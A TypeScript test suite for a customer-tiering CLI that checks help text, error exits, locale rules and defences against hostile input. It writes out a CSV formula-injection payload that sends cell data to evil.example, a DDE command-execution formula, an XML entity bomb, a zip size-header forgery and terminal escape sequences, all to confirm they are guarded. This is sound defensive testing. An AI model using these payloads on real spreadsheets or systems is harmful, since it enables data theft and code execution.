// The CLI's manners as a user meets them: help and version, exit 2 with a sentence for every
// user error (bad workbooks, options, config), the language rule, the CSV formula guard and
// cell text that cannot drive the terminal. Real processes on the input corpus.
import { spawnSync } from 'child_process';
import * as fs from 'fs';
import * as os from 'os';
import * as path from 'path';
import { helpText, COMMANDS, versionText } from '../../src/cli/help';
import { preflightXlsx } from '../../src/cli/openWorkbook';
import { InputFileError } from '../../src/cli/inputError';
import * as fc from 'fast-check';
import { guardFormula, unguardFormula } from '../../src/engine/csvGuard';
import { safeText } from '../../src/cli/terminal';
import { readZip, writeZip, newEntry, entryData } from '../../src/workbook/ooxml/zip';
import { readInputFile } from '../../src/cli/inputFiles';
import { defaultConfig } from '../../src/config';
import { classify } from '../../src/engine/classify';
import { describeIssue } from '../../src/engine/ingest';

const ROOT = path.resolve(__dirname, '../..');
const INPUTS = path.join(ROOT, 'test/fixtures/inputs');
const BOOK = path.join(ROOT, 'test/fixtures/hostile/orders-only.xlsx');
const pkg = JSON.parse(fs.readFileSync(path.join(ROOT, 'package.json'), 'utf8'));

function cli(args: string[], env: Record<string, string> = { LANG: 'C' }, cwd = os.tmpdir()) {
  const clean = { ...process.env };
  delete clean.LC_ALL;
  delete clean.LC_MESSAGES;
  const res = spawnSync(path.join(ROOT, 'node_modules/.bin/tsx'), [path.join(ROOT, 'src/cli/main.ts'), ...args], { cwd, encoding: 'utf8', env: { ...clean, ...env } });
  return { code: res.status, out: res.stdout, err: res.stderr };
}

const tmp = () => fs.mkdtempSync(path.join(os.tmpdir(), 'tiers-misread-'));
const input = (f: string) => path.join(INPUTS, f);

describe('help and version', () => {
  test('every command has help in both languages, naming its own options', () => {
    const own: Record<(typeof COMMANDS)[number], string> = { classify: '--csv-raw', refresh: '--keep-edits', demo: '--out-dir', check: 'check <', remove: 'remove <', sql: '--dialect', facts: '--out <facts.csv|facts.xlsx>' };
    for (const c of COMMANDS) {
      for (const locale of ['en-US', 'zh-CN'] as const) {
        const text = helpText(locale, c);
        expect(text).toContain(`customer-tiers ${c}`);
        expect(text).toContain(own[c]);
        expect(text).toContain('--version');
      }
    }
    expect(helpText('zh-CN', 'demo')).toMatch(/生成示例工作簿/);
    expect(helpText('en-US', 'classify')).toContain('--csv - writes it to standard output (the summary then goes to standard error;');
    expect(helpText('en-US', 'classify')).toContain('--json - and a CSV --export - likewise, one of them at a time)');
    expect(helpText('zh-CN', 'classify')).toContain('--csv - 写到标准输出（此时摘要写到标准错误；--json -、CSV 格式的 --export - 同理，');
    expect(versionText('en-US')).toBe(`customer-tiers ${pkg.version}`);
  });

  test('--version, -h and `<command> --help` as processes (exit 0)', () => {
    const v = cli(['--version']);
    expect([v.code, v.out.trim()]).toEqual([0, `customer-tiers ${pkg.version}`]);
    const h = cli(['-h']);
    expect(h.code).toBe(0);
    expect(h.out).toMatch(/^Usage:/);
    const d = cli(['demo', '--help'], { LANG: 'zh_CN.UTF-8' });
    expect(d.code).toBe(0);
    expect(d.out).toMatch(/customer-tiers demo — 生成示例工作簿并分层/);
    const r = cli(['refresh', '-h']);
    expect(r.code).toBe(0);
    expect(r.out).toMatch(/customer-tiers refresh — re-run/);
  });
});

describe('user errors exit 2 with what to do; nothing is written', () => {
  test('--in-place on a CSV', () => {
    const dir = tmp();
    const res = cli(['classify', '--orders', input('utf8.csv'), '--in-place', '--csv', path.join(dir, 'out.csv')]);
    expect(res.code).toBe(2);
    expect(res.err).toMatch(/--in-place writes the tiers into the input workbook, but .*utf8\.csv is not an \.xlsx file\. Nothing was written: use --out/);
    expect(fs.readdirSync(dir)).toEqual([]);
  });

  test('an invalid rule in the config is a config error (exit 2, no CSV)', () => {
    const dir = tmp();
    const config = path.join(dir, 'tiers.json');
    fs.writeFileSync(config, JSON.stringify({ version: 1, methods: { rules: [{ name: 'Spend', rules: [{ tier: 'A', when: 'monthly_spend >> 1000' }] }] } }));
    const res = cli(['classify', '--orders', input('utf8.csv'), '--config', config, '--csv', path.join(dir, 'out.csv')]);
    expect(res.code).toBe(2);
    expect(res.err).toMatch(/has a rule that cannot be used; nothing was written/);
    expect(res.err).toMatch(/Spend: .*rule 1/i);
    expect(fs.existsSync(path.join(dir, 'out.csv'))).toBe(false);
  });

  test('an --out under a file is refused before anything is written', () => {
    const dir = tmp();
    const res = cli(['classify', '--orders', input('utf8.csv'), '--csv', path.join(dir, 'out.csv'), '--out', path.join(input('utf8.csv'), 'x.xlsx')]);
    expect(res.code).toBe(2);
    expect(res.err).toMatch(/^Cannot write .*x\.xlsx: ENOTDIR.*Nothing was written/);
    expect(fs.readdirSync(dir)).toEqual([]);
  });

  test('demo --customers abc: exit 2 naming the option, nothing generated', () => {
    const dir = tmp();
    const res = cli(['demo', '--customers', 'abc', '--out-dir', path.join(dir, 'd')]);
    expect(res.code).toBe(2);
    expect(res.err).toBe('Option --customers must be a whole number from 1 to 9999999, got "abc".\n');
    expect(fs.readdirSync(dir)).toEqual([]);
  });

  test('two amount columns: the error names both', () => {
    const res = cli(['classify', '--orders', input('duplicate-amount.csv')]);
    expect(res.code).toBe(2);
    expect(res.err).toMatch(/two columns headed "amount" \(columns C and D\)/);
    // The config path as the config file spells it, not the table's and field's display names.
    expect(res.err).toContain('(columns.orders.amount: "amount" or "amount (2)")');
  });

  test('the header on row 3 under a title: found, the title row said, every order counted', () => {
    const dir = tmp();
    const out = path.join(dir, 'out.csv');
    const res = cli(['classify', '--orders', input('header-row-3.csv'), '--csv', out, '--csv-raw'], { LANG: 'en_US.UTF-8' });
    expect(res.code).toBe(0);
    expect(res.out + res.err).toMatch(/row 3/);
    // The truth is the generator's rows (cases.json), summed here, not by the engine.
    const cases: { file: string; truth: [string, number][] }[] = JSON.parse(fs.readFileSync(path.join(INPUTS, 'cases.json'), 'utf8'));
    const want = new Map<string, number>();
    for (const [id, amount] of cases.find((c) => c.file === 'header-row-3.csv')!.truth) want.set(id, Math.round(((want.get(id) ?? 0) + amount) * 100) / 100);
    const lines = fs.readFileSync(out, 'utf8').replace(/^\uFEFF/, '').trim().split(/\r?\n/);
    const head = lines[0].split(',');
    const got = new Map(lines.slice(1).map((l) => { const c = l.split(','); return [c[head.indexOf('customer_id')], Number(c[head.indexOf('revenue')])] as const; }));
    expect(got).toEqual(want);
  });

  test('a CSV renamed .xlsx (process: exit 2, in the environment\'s language)', () => {
    const dir = tmp();
    const file = path.join(dir, 'orders.xlsx');
    fs.copyFileSync(input('utf8.csv'), file);
    const res = cli(['classify', '--orders', file], { LANG: 'zh_CN.UTF-8' });
    expect(res.code).toBe(2);
    expect(res.err).toMatch(/无法读取 orders\.xlsx：它不是 Excel 工作簿，而是文本（CSV）文件.*请把它改名为 \.csv/);
  });
});

describe('workbooks that must not be opened', () => {
  const book = fs.readFileSync(BOOK);
  const thrown = (buf: Buffer): InputFileError => {
    try {
      preflightXlsx(buf, 'book.xlsx');
    } catch (e) {
      if (e instanceof InputFileError) return e;
      throw e;
    }
    throw new Error('expected an InputFileError');
  };
  /** The book with one part replaced. */
  const withPart = (name: string, data: Buffer) => writeZip(readZip(book).map((e) => (e.name === name ? newEntry(name, data) : e)));

  test('a good workbook passes', () => {
    expect(() => preflightXlsx(book, 'book.xlsx')).not.toThrow();
  });

  test('truncated: damaged, with what to do', () => {
    const e = thrown(book.subarray(0, 3000));
    expect(e.key).toBe('cli.xlsx_damaged');
  });

  test('an old .xls (OLE2) and a CSV renamed .xlsx are told apart', () => {
    expect(thrown(Buffer.from([0xd0, 0xcf, 0x11, 0xe0, 0xa1, 0xb1, 0x1a, 0xe1, 0, 0])).key).toBe('cli.xlsx_not_zip_xls');
    expect(thrown(fs.readFileSync(input('gbk.csv'))).key).toBe('cli.xlsx_not_zip_csv');
    expect(thrown(Buffer.from([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a, 0, 0, 0, 0x0d])).key).toBe('cli.xlsx_not_zip_other');
    expect(thrown(fs.readFileSync(input('utf8.csv'))).key).toBe('cli.xlsx_not_zip_csv');
  });

  test('an XML entity bomb is refused before any part is parsed', () => {
    const sheet = entryData(readZip(book).find((e) => e.name === 'xl/worksheets/sheet1.xml')!).toString('utf8');
    const bomb = `<?xml version="1.0"?><!DOCTYPE x [<!ENTITY a "aaaaaaaaaa"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;"><!ENTITY c "&b;&b;&b;&b;&b;&b;&b;&b;&b;&b;">]>${sheet.slice(sheet.indexOf('?>') + 2)}`;
    const e = thrown(withPart('xl/worksheets/sheet1.xml', Buffer.from(bomb)));
    expect(e.key).toBe('cli.xlsx_entities');
    expect(e.params.part).toBe('xl/worksheets/sheet1.xml');
  });

  test('a 700 MB shared-strings part (declared size) is refused without inflating it', () => {
    const zip = Buffer.from(book);
    // Patch the central directory's uncompressed size of xl/sharedStrings.xml to 700 MB.
    for (let p = zip.indexOf('PK\x01\x02'); p >= 0; p = zip.indexOf('PK\x01\x02', p + 4)) {
      const n = zip.readUInt16LE(p + 28);
      if (zip.toString('utf8', p + 46, p + 46 + n) === 'xl/sharedStrings.xml') zip.writeUInt32LE(700 * 1024 * 1024, p + 24);
    }
    const e = thrown(zip);
    expect(e.key).toBe('cli.xlsx_too_large');
    expect(e.params).toEqual({ file: 'book.xlsx', part: 'xl/sharedStrings.xml', size: 700, limit: 400 });
  });
});

describe('language: --lang, else the config\'s locale, else the environment', () => {
  test('LANG=en_US: English even though the schema\'s default locale is zh-CN', () => {
    const res = cli(['classify', '--orders', input('tab-separated.tsv')], { LANG: 'en_US.UTF-8' });
    expect(res.code).toBe(0);
    expect(res.out).toMatch(/^Customer Tiers — analysis date/);
    expect(res.out).not.toMatch(/[\u4e00-\u9fff]/);
  });

  test('a locale written in the config wins over the environment; --lang wins over both', () => {
    const dir = tmp();
    const config = path.join(dir, 'tiers.json');
    fs.writeFileSync(config, JSON.stringify({ version: 1, locale: 'zh-CN' }));
    const zh = cli(['classify', '--orders', input('tab-separated.tsv'), '--config', config], { LANG: 'C' });
    expect(zh.out).toMatch(/^客户分层/);
    const en = cli(['classify', '--orders', input('tab-separated.tsv'), '--config', config, '--lang', 'en-US'], { LANG: 'zh_CN.UTF-8' });
    expect(en.out).toMatch(/^Customer Tiers/);
  });

  test('demo follows the environment (LANG=C: English throughout the summary)', () => {
    const dir = tmp();
    const res = cli(['demo', '--customers', '40', '--out-dir', dir], { LANG: 'C' });
    expect(res.code).toBe(0);
    const summary = res.out.split('\n').filter((l) => /analysis date|Order rows|Data issues/.test(l));
    expect(summary.length).toBeGreaterThanOrEqual(3);
    expect(res.out).toMatch(/Customer Tiers — analysis date/);
  });
});

describe('the per-customer CSV and the terminal', () => {
  test('formula-like ids are prefixed with \' (OWASP), numbers are not; --csv-raw writes them raw', () => {
    const dir = tmp();
    const guarded = path.join(dir, 'guarded.csv');
    const raw = path.join(dir, 'raw.csv');
    expect(cli(['classify', '--orders', input('formula-ids.csv'), '--csv', guarded]).code).toBe(0);
    expect(cli(['classify', '--orders', input('formula-ids.csv'), '--csv', raw, '--csv-raw']).code).toBe(0);
    const g = fs.readFileSync(guarded, 'utf8');
    expect(g).toContain(`"'=HYPERLINK(""http://evil.example/?x=""&A1,""click"")"`);
    expect(g).toContain(`'=cmd|' /C calc'!A0`);
    expect(g).toContain(`"'+SUM(1,2)"`);
    expect(g).toContain(`'@SUM(1)`);
    expect(g).toMatch(/\r\n-12\.5,/);
    expect(g).not.toMatch(/(^|,|\n)"?=/);
    const r = fs.readFileSync(raw, 'utf8');
    expect(r).toContain(`"=HYPERLINK(""http://evil.example/?x=""&A1,""click"")"`);
    expect(r).toMatch(/\r\n=cmd\|' \/C calc'!A0,/);
  });

  test('guardFormula: the OWASP triggers, and genuine numbers left alone', () => {
    expect(['=1+1', '+1', '-x', '@a', '\tx', '\rx'].map(guardFormula)).toEqual(["'=1+1", '+1', "'-x", "'@a", "'\tx", "'\rx"]);
    expect(['-12.5', '+3', '-1e5', 'K-1', ''].map(guardFormula)).toEqual(['-12.5', '+3', '-1e5', 'K-1', '']);
  });

  test('unguardFormula gives back what guardFormula was given (all but text that itself starts with \' and a trigger)', () => {
    const text = fc.string({ unit: fc.constantFrom('=', '+', '-', '@', '\t', '\r', "'", '1', '.', 'e', 'a', '中', ' '), maxLength: 8 });
    fc.assert(
      fc.property(text, (s) => {
        fc.pre(!/^'[=+\-@\t\r]/.test(s));
        expect(unguardFormula(guardFormula(s))).toBe(s);
      }),
      { numRuns: 2000 },
    );
    expect(["'=1+1", "'@a", "'-x", "'-12.5", "'x", "'", 'plain'].map(unguardFormula)).toEqual(['=1+1', '@a', '-x', "'-12.5", "'x", "'", 'plain']);
  });

  test('escape sequences in a cell are shown, never sent to the terminal', () => {
    const res = cli(['classify', '--orders', input('escape-sequences.csv')]);
    expect(res.code).toBe(0);
    // eslint-disable-next-line no-control-regex
    expect(res.out).not.toMatch(/[\u0000-\u0008\u000b-\u001f\u007f-\u009f]/);
    expect(res.out).toContain('\\x1b]0;pwned\\x07\\x1b[2J12');
    expect(safeText('a\u009b31mb\r\n')).toBe('a\\x9b31mb\\x0d\n');
  });
});

test('a formula without a saved result (openpyxl) is reported as such, not as an empty amount', async () => {
  const cases = JSON.parse(fs.readFileSync(path.join(INPUTS, 'cases.json'), 'utf8')) as { file: string; truth: [string, number][] }[];
  const truth = cases.find((c) => c.file === 'openpyxl-formula.xlsx')!.truth;
  const result = classify({ orders: await readInputFile(input('openpyxl-formula.xlsx')) }, defaultConfig());
  const issue = result.issues.find((i) => i.code === 'formula_no_value')!;
  expect(issue).toMatchObject({ sheet: 'Orders', row: 5, col: 2, severity: 'error', params: { formula: '=2*C2' } });
  expect(result.issues.filter((i) => i.code === 'amount_blank')).toEqual([]);
  expect(describeIssue(issue, 'en-US')).toEqual({
    where: 'Orders!C5',
    problem: 'The cell holds a formula (=2*C2) whose result was never saved; its value is unknown, so the row was left out.',
    action: 'Open the workbook in Excel (or LibreOffice), let it calculate, save it, then run again.',
  });
  const sums = new Map<string, number>();
  for (const [id, amount] of truth) sums.set(id, Math.round(((sums.get(id) ?? 0) + amount) * 100) / 100);
  const ids = result.customers.array('customer_id') as string[];
  const revenue = result.customers.array('revenue') as number[];
  expect(new Map(ids.map((id, i) => [id, Math.round(revenue[i] * 100) / 100]))).toEqual(sums);
});
